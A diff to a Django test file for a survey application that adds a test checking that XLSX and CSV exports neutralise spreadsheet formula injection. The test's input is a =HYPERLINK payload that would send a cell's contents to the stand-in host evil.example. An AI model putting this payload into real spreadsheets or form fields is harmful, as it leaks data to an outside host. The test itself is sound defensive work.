@@ -1,5 +1,6 @@
 """QR codes that lead to the form, the SKM report as PDF, and the raw responses as XLSX."""
 
+import csv
 import io
 import xml.etree.ElementTree as ET
 
@@ -114,6 +115,29 @@ def test_the_csv_download_names_columns_by_key(client, operator, period_a):
     response = client.get(reverse("surveys:responses", args=[period_a.pk, "csv"]))
     header = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()[0]
     assert header.split(",")[3:12] == list(STANDARD_KEYS)
+
+
+def test_an_anonymous_suggestion_is_downloaded_as_text_not_as_a_formula(client, operator, period_a):
+    attack = '=HYPERLINK("https://evil.example/?d="&D2,"Klik untuk detail")'
+    answers = dict(zip(STANDARD_KEYS, ["4", "3", "2", "4", "3", "3", "4", "2", "3"], strict=True))
+    sent = client.post(
+        reverse("surveys:form", args=[period_a.code]),
+        {**answers, "website": "", "suggestion": attack},
+        REMOTE_ADDR="10.1.2.3",
+    )
+    assert sent.status_code == 302
+    client.force_login(operator)
+
+    xlsx = client.get(reverse("surveys:responses", args=[period_a.pk, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(xlsx.content)).active
+    [suggestion] = [cell for cell in sheet[2] if cell.value == attack]
+    assert suggestion.data_type == "s"
+    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
+
+    download = client.get(reverse("surveys:responses", args=[period_a.pk, "csv"]))
+    text = b"".join(download.streaming_content).decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(text)))
+    assert row[header.index("saran")] == "'" + attack
 
 
 def test_the_period_page_shows_progress_towards_the_minimum_sample(client, operator, period_a):
